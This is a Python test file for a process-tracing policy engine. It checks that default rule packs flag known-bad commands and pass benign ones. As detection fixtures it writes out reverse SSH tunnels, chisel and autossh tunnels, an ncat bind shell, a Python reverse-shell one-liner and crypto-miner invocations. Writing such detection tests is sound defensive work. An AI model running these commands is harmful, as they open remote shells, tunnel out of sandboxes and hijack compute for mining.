"""Each default pack loads cleanly, and decides known cases from recorded
events (no root)."""
from __future__ import annotations

from pathlib import Path

import pytest

from tracer.engine import build_kernel_maps
from tracer.paths import POLICY_DIR
from tracer.policy import load_policy, record_context

PACKS = sorted(POLICY_DIR.glob("*.toml"))


@pytest.mark.parametrize("pack", PACKS, ids=[p.name for p in PACKS])
def test_pack_loads_without_errors_or_warnings(pack):
    # each pack with the shared base it builds on
    paths = sorted({POLICY_DIR / "base.toml", pack})
    res = load_policy(paths)
    assert res.errors == [], [str(e) for e in res.errors]
    if pack.name != "base.toml":
        assert res.policy.rules, f"{pack.name} defines no rule"
        for r in res.policy.rules:
            assert r.description, f"{r.name} has no description"


@pytest.fixture(scope="module")
def policy():
    res = load_policy([POLICY_DIR])
    assert not res.errors and not res.warnings, [str(d) for d in res.errors + res.warnings]
    return res.policy


def _exec(argv, exe=None, episode="ep-1"):
    return {"type": "exec", "episode": episode, "pid": 100, "argv": argv,
            "exe": exe or f"/usr/bin/{argv[0].rsplit('/', 1)[-1]}", "comm": argv[0][-15:]}


@pytest.mark.parametrize("argv,rule", [
    (["ssh", "-N", "-R", "2222:localhost:22", "user@203.0.113.9"], "ssh-port-forward"),
    (["ssh", "-NfR2222:localhost:22", "host"], "ssh-port-forward"),
    (["ssh", "-o", "RemoteForward=2222 localhost:22", "host"], "ssh-forward-option"),
    (["ssh", "-F", "/tmp/cfg", "host"], "ssh-config-file"),
    (["ssh", "-D", "1080", "host"], "ssh-local-forward"),
    (["autossh", "-M", "0", "-R", "2222:localhost:22", "host"], "tunnel-tool"),
    (["chisel", "client", "203.0.113.9:8080", "R:2222:localhost:22"], "tunnel-tool"),
    (["socat", "TCP-LISTEN:2222,fork", "TCP:localhost:22"], "socket-relay"),
    (["ncat", "-l", "2222", "-e", "/bin/sh"], "socket-relay"),
    (["cloudflared", "tunnel", "run"], "cloudflared-tunnel"),
    (["xmrig", "-o", "pool:3333"], "miner-by-name"),
    (["/tmp/innocent", "-o", "stratum+tcp://10.0.0.5:3333", "-u", "wallet"], "miner-by-argv"),
    (["./worker", "--donate-level", "1"], "miner-by-argv"),
    (["python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)"], "socket-oneliner"),
])
def test_known_bad_exec(policy, argv, rule):
    rules = {v.rule for v in policy.evaluate(_exec(argv), record_context({}))}
    assert rule in rules


@pytest.mark.parametrize("argv", [
    ["ssh", "-p", "2222", "git@example.com", "git-upload-pack", "repo"],
    ["ssh", "host", "ls", "-R", "/tmp"],
    ["python3", "train.py", "--epochs", "3"],
    ["python3", "-c", "print('hello')"],
    ["pip", "install", "-r", "requirements.txt"],
    ["git", "clone", "/srv/repo.git"],
    ["gcc", "-O2", "-o", "a.out", "a.c"],
    ["curl", "-s", "http://127.0.0.1:8000/data.json"],
    ["nc", "-z", "127.0.0.1", "80"],
])
def test_benign_exec(policy, argv):
    assert policy.evaluate(_exec(argv), record_context({})) == []


def test_outside_episodes_untouched(policy):
    assert policy.evaluate(_exec(["xmrig"], episode=None), record_context({})) == []


def test_kernel_plan_of_default_packs(policy):
    plan = policy.kernel_plan()
    assert "xmrig" in plan.kill_comms and "chisel" in plan.kill_comms
    assert "ssh" in plan.gate_comms  # argv judged in user space, held by the gate
    km = build_kernel_maps(plan, {})
    assert km.ports.get(3333) and km.ports.get(14444)
    assert km.tcp_mask and not km.global_mask  # nothing outside episodes


def test_pool_port_connect_is_deny(policy):
    rec = {"type": "connect", "episode": "e", "pid": 1, "family": "inet", "addr": "203.0.113.7",
           "port": 3333, "result": -115, "exe": "/tmp/x", "sock_type": "stream"}
    assert "mining-pool-port" in {v.rule for v in policy.evaluate(rec, record_context({}))}
